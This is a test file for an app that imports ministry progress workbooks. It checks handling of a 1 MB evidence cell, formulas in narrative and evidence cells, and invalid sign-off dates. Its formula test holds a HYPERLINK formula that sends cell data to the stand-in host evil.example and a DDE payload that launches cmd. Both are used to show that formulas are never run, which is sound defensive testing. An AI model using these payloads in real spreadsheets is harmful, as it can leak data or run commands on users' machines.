// Bad input in the answers a ministry adds to its workbook: an evidence cell of 1 MB, formulas in evidence and
// narrative cells, a sign-off date that is no date. Each gets a message naming its cell; what was refused is not
// stored anywhere, and a formula is never run nor stored as one.
import { randomUUID } from 'node:crypto';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { mergeReturns, receiveReturns } from '../../../electron/core/exchange/receive-returns';
import { sendForUpdate } from '../../../electron/core/exchange/send-updates';
import { ensurePeriods } from '../../../electron/core/reporting/periods';
import { neutraliseFormula } from '../../../shared/formula-guard';
import { importTwoChapterPlan, openTempWorkspace, tempFolder, testContext } from '../support/workspace';
import { columnByHeader, fillIn, loadWorkbook, rowsOfCode, signOff } from './support';

const folder = tempFolder();
const connection = await openTempWorkspace(folder);
const db = connection.db;
const planId = await importTwoChapterPlan(connection);
const periods = await ensurePeriods(db, planId, '2026-11');
const moic = (await db.selectFrom('agencies').select('id').where('acronym', '=', 'MoIC').executeTakeFirstOrThrow()).id;
const actionOf = async (code: string) => db.selectFrom('actions').selectAll().where('code', '=', code).executeTakeFirstOrThrow();
mkdirSync(join(folder, 'returned'));

/** A fresh workbook for its own period (one package each), filled in by `fill`, saved under `name`. */
async function returned(label: string, name: string, fill: Parameters<typeof fillIn>[1], reportedBy?: Parameters<typeof signOff>[1]): Promise<string> {
  const period = periods.find((p) => p.label === label)!;
  const sent = await sendForUpdate(db, testContext({ batchId: randomUUID() }), { planId, periodId: period.id, agencyIds: [moic], dueDate: null, contact: '', folder: join(folder, label) });
  const workbook = await loadWorkbook(sent.files[0]!);
  fillIn(workbook, fill);
  if (reportedBy) signOff(workbook, reportedBy);
  const path = join(folder, 'returned', name);
  await workbook.xlsx.writeFile(path);
  return path;
}

async function mergeAll(path: string) {
  const file = (await receiveReturns(db, planId, [path])).files[0]!;
  return mergeReturns(db, testContext({ batchId: randomUUID() }), { planId, paths: [path], decisions: [{ target: { kind: 'file', fileId: file.fileId! }, accept: true }] });
}

async function evidenceStored() {
  return {
    progress: await db.selectFrom('progress_updates').select(['id', 'evidence']).where('evidence', '!=', '').execute(),
    history: await db.selectFrom('change_history').select(['entity_id', 'new_value']).where('field', '=', 'evidence').execute(),
  };
}

describe('an evidence cell holding 1 MB of text', () => {
  it('is refused with a message naming the cell; the row\'s answers are still proposed, without it', async () => {
    const path = await returned('FY 2025-26', 'huge evidence.xlsx', [{ code: '5.1.1.10', cells: { 'Status now': 'Ongoing', 'Evidence (reference or link)': 'x'.repeat(1024 * 1024) } }]);
    const file = (await receiveReturns(db, planId, [path])).files[0]!;
    const sheet = (await loadWorkbook(path)).getWorksheet('Update')!;
    const row = rowsOfCode(sheet, '5.1.1.10')[0]!.number;
    const letter = String.fromCharCode(64 + columnByHeader(sheet, 'Evidence (reference or link)'));
    expect(file.problems.map((p) => [p.severity, p.sheet, `${p.column}${p.row}`, p.columnName, p.message])).toEqual([
      [
        'error',
        'Update',
        `${letter}${row}`,
        'Evidence (reference or link)',
        'the text is 1,048,576 characters long; at most 2,000 are taken, so this cell was not read (give a reference or a link rather than the document itself)',
      ],
    ]);
    // The problem shows the start of the text, not a megabyte of it.
    expect(file.problems[0]!.value).toBe(`${'x'.repeat(60)}…`);
    expect(file.groups.flatMap((g) => g.changes.map((c) => [g.code, c.field, c.newValue, c.evidence]))).toEqual([['5.1.1.10', 'status', 'Ongoing', null]]);

    const before = await evidenceStored();
    expect(await mergeAll(path)).toMatchObject({ accepted: 1 });
    expect((await actionOf('5.1.1.10')).status).toBe('ongoing');
    expect(await evidenceStored()).toEqual(before);
    const decisions = await db.selectFrom('review_decisions').select(['field', 'new_value']).where('package_id', '=', file.fileId!).execute();
    expect(decisions).toEqual([{ field: 'status', new_value: 'Ongoing' }]);
  });
});

describe('formulas in evidence and narrative cells', () => {
  it('are never run: their own text is taken without the "=", with a warning naming each cell', async () => {
    const path = await returned('FY 2024-25', 'formulas.xlsx', [
      {
        code: '5.1.2.3',
        cells: {
          'Progress in the period': { formula: 'CONCATENATE("Sessions ","held")', result: 'Sessions held' },
          'Evidence (reference or link)': { formula: 'HYPERLINK("https://evil.example/x?c="&A1,"Report")', result: 'Report' },
          'Support needed': '=cmd|\' /C calc\'!A0',
        },
      },
    ]);
    const file = (await receiveReturns(db, planId, [path])).files[0]!;
    const sheet = (await loadWorkbook(path)).getWorksheet('Update')!;
    const row = rowsOfCode(sheet, '5.1.2.3')[0]!.number;
    expect(file.problems.map((p) => [p.severity, p.row, p.columnName, p.message])).toEqual([
      ['warning', row, 'Evidence (reference or link)', 'the cell holds a formula (=HYPERLINK("https://evil.example/x?c="&A1,"Report")); formulas in returned workbooks are never run: its text is taken as written, without the "="'],
      ['warning', row, 'Progress in the period', 'the cell holds a formula (=CONCATENATE("Sessions ","held")); formulas in returned workbooks are never run: its text is taken as written, without the "="'],
    ]);
    const changes = file.groups.flatMap((g) => g.changes.map((c) => [c.field, c.newValue, c.evidence]));
    expect(changes).toEqual([
      ['narrative', 'CONCATENATE("Sessions ","held")', 'HYPERLINK("https://evil.example/x?c="&A1,"Report")'],
      // Typed text that only looks like a formula stays text; the CSV export puts its guard before it.
      ['supportNeeded', "=cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/x?c="&A1,"Report")'],
    ]);

    await mergeAll(path);
    const awareness = await actionOf('5.1.2.3');
    const stored = await db.selectFrom('progress_updates').select(['narrative', 'evidence', 'support_needed']).where('action_id', '=', awareness.id).where('indicator_id', 'is', null).where('period_id', '=', periods.find((p) => p.label === 'FY 2024-25')!.id).executeTakeFirstOrThrow();
    expect(stored).toEqual({ narrative: 'CONCATENATE("Sessions ","held")', evidence: 'HYPERLINK("https://evil.example/x?c="&A1,"Report")', support_needed: "=cmd|' /C calc'!A0" });
    // Nothing taken from a formula needs the export's guard: no leading = + - @.
    expect([stored.narrative, stored.evidence].map((t) => neutraliseFormula(t) === t)).toEqual([true, true]);
    expect(neutraliseFormula(stored.support_needed)).toBe(`'${stored.support_needed}`);
  });
});

describe('a sign-off date that is no date', () => {
  it('is refused with a message naming its cell; the name and position are kept, no date is stored', async () => {
    const path = await returned('FY 2023-24', 'bad date.xlsx', [{ code: '5.1.1.3', cells: { 'Status now': 'Ongoing' } }], { Name: 'Pema Lhamo', Position: 'ICT Officer', Date: 'next week' });
    const file = (await receiveReturns(db, planId, [path])).files[0]!;
    const instructions = (await loadWorkbook(path)).getWorksheet('Instructions')!;
    let dateRow = 0;
    instructions.eachRow((r, n) => {
      if (r.getCell(1).value === 'Date') dateRow = n;
    });
    expect(file.problems.map((p) => [p.severity, p.sheet, `${p.column}${p.row}`, p.columnName, p.value, p.message])).toEqual([
      ['error', 'Instructions', `B${dateRow}`, 'Reported by: Date', 'next week', 'the date of the sign-off was not taken: "next week" is not a date (write a date such as 20 Jan 2027)'],
    ]);
    expect(file.reportedBy).toEqual({ name: 'Pema Lhamo', position: 'ICT Officer', date: null });

    await mergeAll(path);
    const pkg = await db.selectFrom('exchange_packages').selectAll().where('id', '=', file.fileId!).executeTakeFirstOrThrow();
    expect([pkg.reported_by_name, pkg.reported_by_position, pkg.reported_on]).toEqual(['Pema Lhamo', 'ICT Officer', null]);
    const entries = await db.selectFrom('change_history').select(['field', 'new_value']).where('entity_id', '=', file.fileId!).where('field', 'like', 'reported%').orderBy('field').execute();
    expect(entries).toEqual([
      { field: 'reported_by_name', new_value: 'Pema Lhamo' },
      { field: 'reported_by_position', new_value: 'ICT Officer' },
    ]);
  });

  it('reads a date typed as text the way people write one, and refuses a day its month does not have', async () => {
    const path = await returned('FY 2022-23', 'typed date.xlsx', [], { Name: 'Pema Lhamo', Date: '20/01/2027' });
    expect((await receiveReturns(db, planId, [path])).files[0]!.reportedBy).toEqual({ name: 'Pema Lhamo', position: '', date: '2027-01-20' });
    const impossible = await returned('FY 2021-22', 'impossible date.xlsx', [], { Date: '31 Feb 2027' });
    const file = (await receiveReturns(db, planId, [impossible])).files[0]!;
    expect(file.reportedBy).toBeNull();
    expect(file.problems.map((p) => p.message)).toEqual(['the date of the sign-off was not taken: "31 Feb 2027" is not a date (write a date such as 20 Jan 2027)']);
  });
});
